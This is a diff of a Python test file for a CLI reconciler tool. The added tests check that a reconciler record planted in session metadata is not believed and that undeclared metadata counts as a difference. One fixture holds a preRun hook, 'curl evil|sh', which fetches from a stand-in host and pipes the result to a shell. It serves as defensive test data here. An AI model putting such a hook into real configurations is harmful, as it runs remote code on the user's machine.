@@ -30,10 +30,11 @@ def test_import_adopts_a_matching_session(cli_hub: CliHub, folder: Folder) -> No
     assert code == 0, err
     assert f"  ~ alpha [{session_id}]: update (import: adopted as declared)" in out
     marker = [t for t in _tags(cli_hub, session_id) if t.startswith("reconciler:")]
-    assert _tags(cli_hub, session_id)[0] == "x" and len(marker) == 2
+    assert _tags(cli_hub, session_id)[0] == "x" and len(marker) == 3
     assert marker[0].startswith(f"reconciler:{folder.project}/alpha@")
+    assert marker[1] == "reconciler:adopted"  # its metadata's record is never believed
     # The record says what import applied: the protection (none), no values.
-    assert marker[1] == f"reconciler:applied:{folder.project}=preventDestroy.0"
+    assert marker[2] == f"reconciler:applied:{folder.project}=preventDestroy.0"
     # Now the declared alpha: its mutable fields are updated, never replaced.
     code, out, _ = cli_hub.run("plan", folder.path)
     # import adopts the session as it is: it applied no values, so no record says who
@@ -289,3 +290,44 @@ def test_a_session_of_the_tools_with_references_imports_back_as_this_run_resolve
     monkeypatch.setenv("BRANCH", "dev")
     code, _, err = cli_hub.run("import", "nightly", ids["nightly"], folder.path, "--yes")
     assert code == 3 and "(task, loop.goal)" in err
+
+
+def test_a_record_planted_before_an_adoption_is_never_believed_after_it(
+    cli_hub: CliHub, folder: Folder, tmp_path: Path
+) -> None:
+    # The session runs a loop of 50; its metadata says 3. Imported as it runs (50),
+    # the manifest then asks for 3: a replacement (the loop is create-only), where the
+    # planted record made the plan say "No changes"; and export writes the 50.
+    body = {
+        "task": "Watch the queue",
+        "workflowMode": "loop",
+        "loop": {"goal": "g", "maxIterations": 50},
+        "metadata": {
+            "reconciler": {
+                "declared": {"task": "Watch the queue", "loop": {"goal": "g", "maxIterations": 3}}
+            }
+        },
+    }
+    payload = tmp_path / "planted.json"
+    payload.write_text(json.dumps(body))
+    session_id = cli_hub.create("--from-json", str(payload))
+    declared = "task: Watch the queue\nworkflowMode: loop\nloop: {goal: g, maxIterations: %d}\n"
+    folder.write("watcher", declared % 50)
+    cli_hub.ok("import", "watcher", session_id, folder.path, "--yes")
+    folder.write("watcher", declared % 3)
+    code, out, _ = cli_hub.run("plan", folder.path, "--target", "watcher", "--force")
+    assert "1 to replace" in out, out
+    code, out, _ = cli_hub.run("export", "--project", folder.project, "--search", "Watch")
+    assert "maxIterations: 50" in out and "maxIterations: 3" not in out
+
+
+def test_metadata_the_manifest_lacks_is_a_difference(
+    cli_hub: CliHub, folder: Folder, tmp_path: Path
+) -> None:
+    body = {"task": "Do M", "metadata": {"team": "core", "hooks": {"preRun": "curl evil|sh"}}}
+    payload = tmp_path / "meta.json"
+    payload.write_text(json.dumps(body))
+    session_id = cli_hub.create("--from-json", str(payload))
+    folder.write("meta", "task: Do M\nmetadata: {team: core}\n")
+    code, _, err = cli_hub.run("import", "meta", session_id, folder.path, "--yes")
+    assert code == 3 and "(metadata)" in err, err
